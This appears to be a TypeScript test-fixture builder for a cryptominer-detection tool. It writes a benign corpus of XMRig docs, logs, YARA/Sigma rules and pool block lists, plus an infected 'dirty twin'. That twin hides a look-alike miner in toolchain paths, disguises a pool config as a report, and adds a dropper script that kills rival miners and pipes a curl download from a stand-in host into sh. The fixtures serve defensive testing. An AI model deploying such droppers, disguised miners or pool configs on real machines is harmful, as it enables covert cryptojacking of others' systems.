// Builds the clean-workstation corpus: what a developer's and a security analyst's machine holds that
// names miners or loads libraries from odd-looking places without being infected — toolchain
// managers with real shared objects, a native node addon, YARA and Sigma rules, indicator lists, a
// hosts file that sinkholes pool domains, documentation and logs that mention XMRig, and saved
// minehunter outputs of an earlier incident. Also the "dirty twin": the same places with a miner in.
import { execFile } from 'node:child_process';
import { chmod, copyFile, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { FAKE_WALLET, buildLookalike } from './lookalike.js';
import { REPO_ROOT, runCli } from './cli.js';

const execFileP = promisify(execFile);

/** Shared objects of toolchain managers, relative to the home directory. */
export const TOOLCHAIN_LIBS = [
  '.pyenv/versions/3.11.4/lib/python3.11/lib-dynload/_json.cpython-311-x86_64-linux-gnu.so',
  '.nvm/versions/node/v20.11.0/lib/node_modules/bcrypt/lib/binding/napi-v3/bcrypt_lib.node',
  '.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib/libstd-8a5f1e3c2d.so',
  '.cargo/registry/src/index.crates.io-6f17d22bba15001f/ring-0.17.8/target/release/libring_core.so',
  'miniconda3/envs/ml/lib/python3.11/site-packages/numpy/core/_multiarray_umath.cpython-311-x86_64-linux-gnu.so',
  '.local/lib/python3.11/site-packages/markupsafe/_speedups.cpython-311-x86_64-linux-gnu.so',
  '.local/pipx/venvs/black/lib/python3.11/site-packages/black/trans.cpython-311-x86_64-linux-gnu.so',
  '.sdkman/candidates/java/21.0.1-tem/lib/libjava.so',
  'src/webapp/node_modules/sharp/build/Release/sharp-linux-x64.node',
];

/** Pool and donation names an admin sinkholes (public names, nothing is resolved). */
export const SINKHOLED = [
  'pool.supportxmr.com',
  'xmr.nanopool.org',
  'gulf.moneroocean.stream',
  'donate.v2.xmrig.com',
  'pool.minexmr.com',
  'mine.c3pool.com',
  'pool.hashvault.pro',
  'xmr.2miners.com',
  'xmr-eu1.nanopool.org',
];

const README = `# XMRig

XMRig is a high performance, open source, cross platform RandomX, KawPow, CryptoNight and
GhostRider unified CPU/GPU miner and RandomX benchmark.

## Usage

    ./xmrig -o pool.supportxmr.com:443 -u YOUR_WALLET_ADDRESS -k --tls --donate-level 1 -a rx/0
    ./xmrig -o stratum+tcp://xmr.nanopool.org:14444 -u ${FAKE_WALLET} -p x

The default donation level is 1% (\`--donate-level\`). A config file may be used instead:

    {
        "autosave": true,
        "donate-level": 1,
        "cpu": { "enabled": true, "huge-pages": true },
        "pools": [ { "url": "pool.supportxmr.com:443", "user": "YOUR_WALLET", "keepalive": true, "tls": true } ]
    }

XMRig/6.21.0 prints its hashrate every 60 seconds; the HTTP API and WinRing0x64.sys (the MSR
driver on Windows) are described in the wiki.
`;

const MAN_PAGE = `.TH XMRIG 1 "November 2026" "xmrig 6.21.0" "User Commands"
.SH NAME
xmrig \\- RandomX, CryptoNight and KawPow miner
.SH SYNOPSIS
.B xmrig
[\\fIOPTIONS\\fR]
.SH OPTIONS
.TP
\\fB\\-o\\fR, \\fB\\-\\-url\\fR=\\fIURL\\fR
URL of mining server, e.g. stratum+tcp://pool.supportxmr.com:3333
.TP
\\fB\\-a\\fR, \\fB\\-\\-algo\\fR=\\fIALGO\\fR
mining algorithm, e.g. rx/0 (RandomX) or cn/r (CryptoNight)
.TP
\\fB\\-\\-donate\\-level\\fR=\\fIN\\fR
donate level, default 1%
.SH EXAMPLE
xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${FAKE_WALLET} -p x --donate-level 1
`;

const BLOG = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Hunting XMRig on Linux servers</title></head>
<body><article>
<h1>Hunting XMRig on Linux servers</h1>
<p>Last week a customer's build server ran at 100% CPU. The culprit was a renamed XMRig 6.21.0
started from cron with <code>xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${FAKE_WALLET}
--donate-level 1 -a rx/0</code>. The dropper had fetched it with a download piped into a shell.</p>
<p>The config.json it used set "donate-level": 1 and listed pools with "url" and "user" keys.</p>
</article></body></html>
`;

const NPM_LOG = `0 verbose cli /usr/bin/node /usr/lib/node_modules/npm/bin/npm-cli.js
1 info using npm@10.2.4
2 info using node@v20.11.0
3 timing npm:load:whichnode Completed in 1ms
4 http fetch GET 200 https://registry.npmjs.org/xmrig-wrapper 312ms (cache miss)
5 silly placeDep ROOT xmrig-wrapper@1.0.3 OK for: webapp@1.0.0 want: ^1.0.3
6 verbose stack Error: command failed
7 verbose stack     at ChildProcess.<anonymous> (/usr/lib/node_modules/npm/node_modules/@npmcli/promise-spawn/lib/index.js:53:27)
8 verbose pkgid xmrig-wrapper@1.0.3
9 error path /root/src/webapp/node_modules/xmrig-wrapper
10 error command sh -c node install.js (downloads XMRig/6.21.0 and WinRing0x64.sys for --donate-level 1 builds)
11 error xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${FAKE_WALLET} -p x
12 verbose exit 1
`;

const INVENTORY = `Software inventory, lab hosts, 2026-11-28
host       package              note
lab-win-3  xmrig 6.21.0         found by AV, removed; WinRing0x64.sys left in C:\\Windows\\Temp
lab-win-3  WinRing0x64.sys      signed MSR driver used by miners (kept for investigation)
lab-lnx-1  xmrig                command line: xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1
`;

const YARA_RULES = `/* Team rules for cryptominers (written for the lab, 2026-11). */
rule Lab_XMRig_Strings : miner
{
    meta:
        author = "blue team"
        description = "XMRig and forks"
    strings:
        $a = "XMRig/" ascii
        $b = "--donate-level" ascii
        $c = "stratum+tcp://" ascii
        $d = "randomx" ascii nocase
        $e = "${FAKE_WALLET}" ascii
    condition:
        3 of them
}

rule Lab_Miner_Config : miner
{
    strings:
        $a = "\\"donate-level\\"" ascii
        $b = "\\"pools\\"" ascii
        $c = "pool.supportxmr.com" ascii
    condition:
        all of them
}
`;

const SIGMA_RULE = `title: XMRig Miner Command Line
id: 5c5d9c4e-4b1a-4a55-9b0e-0c1d6b9a2f11
status: stable
description: Detects a miner started with XMRig's typical arguments (--donate-level, stratum+tcp://)
references:
    - https://xmrig.com/docs/miner/command-line-options
author: blue team
date: 2026/11/20
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains:
            - '--donate-level'
            - 'stratum+tcp://'
            - 'pool.supportxmr.com'
            - 'XMRig/'
            - '${FAKE_WALLET}'
    condition: selection
falsepositives:
    - Sanctioned mining
level: high
`;

const POOL_LIST = `# Mining pool domains to block at the resolver (team list, 2026-11-20)
${SINKHOLED.join('\n')}
pool.supportxmr.com:3333
stratum+tcp://pool.supportxmr.com:3333
stratum+tcp://xmr.nanopool.org:14444
`;

const WALLET_LIST = `# Wallets seen in incidents (2026)
${FAKE_WALLET}
${FAKE_WALLET.replace('Test', 'Tset')}
${FAKE_WALLET.replace('Test', 'Tets')}
${FAKE_WALLET.replace('Test', 'Ttse')}
${FAKE_WALLET.replace('Test', 'Etst')}
${FAKE_WALLET.replace('Test', 'Sett')}
${FAKE_WALLET.replace('Test', 'Stet')}
${FAKE_WALLET.replace('Test', 'Tste')}
`;

export function sinkholeHosts(address = '0.0.0.0'): string {
  return [
    '127.0.0.1\tlocalhost',
    '127.0.1.1\tworkstation',
    '::1\tlocalhost ip6-localhost ip6-loopback',
    'ff02::1\tip6-allnodes',
    'ff02::2\tip6-allrouters',
    '',
    '# Block mining pools and XMRig donation servers (admin, 2026-11-20)',
    ...SINKHOLED.map((d) => `${address}\t${d}`),
    '',
  ].join('\n');
}

const LIB_SOURCE = 'int toolchain_helper(int x) { return x * 2 + 1; }\n';

/** A real shared object, built once per directory with the system's C compiler. */
export async function buildSharedObject(dir: string): Promise<string> {
  const src = path.join(dir, 'toolchain-helper.c');
  const so = path.join(dir, 'toolchain-helper.so');
  await writeFile(src, LIB_SOURCE);
  await execFileP('cc', ['-shared', '-fPIC', '-O1', '-o', so, src]);
  return so;
}

async function put(file: string, data: string | Buffer, mode = 0o644): Promise<void> {
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, data);
  await chmod(file, mode);
}

/** Places the toolchain libraries under `home` (mode 0755, owned by whoever runs the test). */
export async function placeToolchainLibs(home: string, so: string): Promise<string[]> {
  const out: string[] = [];
  for (const rel of TOOLCHAIN_LIBS) {
    const target = path.join(home, rel);
    await mkdir(path.dirname(target), { recursive: true });
    await copyFile(so, target);
    await chmod(target, 0o755);
    out.push(target);
  }
  return out;
}

/** The documents, logs and security material of the corpus, relative to `home` (and the root). */
export const DOCUMENTS: Record<string, string> = {
  'docs/xmrig/README.md': README,
  'blog/2026-11-hunting-xmrig.html': BLOG,
  '.npm/_logs/2026-11-30T10_00_00_000Z-debug-0.log': NPM_LOG,
  'inventory.txt': INVENTORY,
  'security/yara/miners.yar': YARA_RULES,
  'security/sigma/proc_creation_lnx_xmrig.yml': SIGMA_RULE,
  'security/iocs/pool-domains.txt': POOL_LIST,
  'security/iocs/wallets.txt': WALLET_LIST,
};

/**
 * Writes the corpus under `root` (a directory treated as `/`, home `/root`): toolchain libraries,
 * documents, security material, a sinkholing /etc/hosts, a man page, and minehunter's own outputs
 * of an earlier incident (reports of every format and an evidence bundle of an infected fixture
 * root), written by minehunter itself so they are in its registry of outputs.
 */
export async function buildWorkstation(
  root: string,
  work: string,
): Promise<{ home: string; outputs: string[] }> {
  const home = path.join(root, 'root');
  await mkdir(home, { recursive: true });
  await placeToolchainLibs(home, await buildSharedObject(work));
  for (const [rel, text] of Object.entries(DOCUMENTS)) await put(path.join(home, rel), text);
  await put(path.join(root, 'etc', 'hosts'), sinkholeHosts());
  await put(path.join(root, 'usr', 'local', 'share', 'man', 'man1', 'xmrig.1.gz'), gzipSync(MAN_PAGE));
  await put(path.join(root, 'usr', 'local', 'share', 'man', 'man1', 'xmrig.1'), MAN_PAGE);
  return { home, outputs: await writeSavedOutputs(path.join(home, 'case')) };
}

/** An infected offline root the tests ship: its reports quote a miner's argv, pool and wallet. */
export const INFECTED_FIXTURE = path.join(REPO_ROOT, 'test', 'fixtures', 'roots', 'miner-host');

async function cli(args: string[]): Promise<void> {
  const r = await runCli(args, { timeoutMs: 180_000 });
  if (r.code !== 0 && r.code !== 1)
    throw new Error(`minehunter ${args.join(' ')} exited ${r.code}\n${r.stderr}`);
}

/** Every kind of file minehunter writes about an incident, as CLI runs that write into `dir`. */
export function savedOutputRuns(dir: string, only?: string[]): { args: string[]; file: string }[] {
  const f = (name: string) => path.join(dir, name);
  const scan = ['--root', INFECTED_FIXTURE, '--no-cache'];
  const runs = [
    { args: ['scan', ...scan, '-o', f('scan.txt'), '--lang', 'en'], file: f('scan.txt') },
    { args: ['scan', ...scan, '-o', f('scan.zh.txt'), '--lang', 'zh-CN'], file: f('scan.zh.txt') },
    { args: ['scan', ...scan, '--format', 'json', '-o', f('scan.json')], file: f('scan.json') },
    { args: ['collect', ...scan, '-o', f('snapshot.json')], file: f('snapshot.json') },
    ...['md', 'html', 'json', 'pdf'].map((format) => ({
      args: [
        'report',
        '--from-report',
        f('scan.json'),
        '--no-prompt',
        '--format',
        format,
        '-o',
        f(`incident.${format}`),
      ],
      file: f(`incident.${format}`),
    })),
    { args: ['evidence', ...scan, '-o', f('evidence')], file: f('evidence') },
    { args: ['respond', ...scan, '--format', 'json', '-o', f('plan.json')], file: f('plan.json') },
  ];
  return only ? runs.filter((r) => only.includes(path.basename(r.file))) : runs;
}

/** Writes every kind of output into `dir` (in the order above: the reports read scan.json). */
export async function writeSavedOutputs(dir: string, only?: string[]): Promise<string[]> {
  await mkdir(dir, { recursive: true });
  const runs = savedOutputRuns(dir, only);
  for (const run of runs) await cli(run.args);
  return runs.map((r) => r.file);
}

/**
 * The dirty twin of the corpus: the look-alike miner dropped into the same places the clean corpus
 * uses (a toolchain tree, a node_modules addon, the rules folder), a miner config beside the rules,
 * a config disguised behind a minehunter report's header (not in the registry), a hosts file that
 * sends pool names to another address, and a dropper script in /tmp. Returns what must be found.
 */
export async function dirtyTwin(root: string, work: string): Promise<Record<string, string>> {
  const home = path.join(root, 'root');
  const miner = await buildLookalike(work);
  const drops: Record<string, string> = {
    pyenvMiner: '/root/.pyenv/versions/3.11.4/bin/python3.11-update',
    addonMiner: '/root/src/webapp/node_modules/sharp/build/Release/sharp-linux-x64.node',
    rulesMiner: '/root/security/yara/yara-scan',
    rulesConfig: '/root/security/yara/config.json',
    disguisedConfig: '/root/case/scan-2026-11-30.json',
    dropper: '/tmp/.x/x.sh',
  };
  for (const key of ['pyenvMiner', 'addonMiner', 'rulesMiner'] as const) {
    const target = path.join(root, drops[key]!);
    await mkdir(path.dirname(target), { recursive: true });
    await copyFile(miner, target);
    await chmod(target, 0o755);
  }
  const config = {
    autosave: true,
    'donate-level': 1,
    cpu: { enabled: true, 'huge-pages': true, 'max-threads-hint': 100 },
    pools: [{ url: 'pool.supportxmr.com:443', user: FAKE_WALLET, pass: 'x', keepalive: true, tls: true }],
  };
  await put(path.join(root, drops.rulesConfig!), JSON.stringify(config, null, 2));
  await put(
    path.join(root, drops.disguisedConfig!),
    JSON.stringify({ schemaVersion: 1, tool: { name: 'minehunter', version: '0.1.0' }, ...config }, null, 2),
  );
  await put(path.join(root, 'etc', 'hosts'), sinkholeHosts('203.0.113.7'));
  await put(
    path.join(root, drops.dropper!),
    '#!/bin/sh\npkill -9 xmrig\npkill -9 kdevtmpfsi\nkillall -9 kinsing\ncurl -fsSL http://192.0.2.10/x.sh | sh\n',
    0o755,
  );
  void home;
  return drops;
}
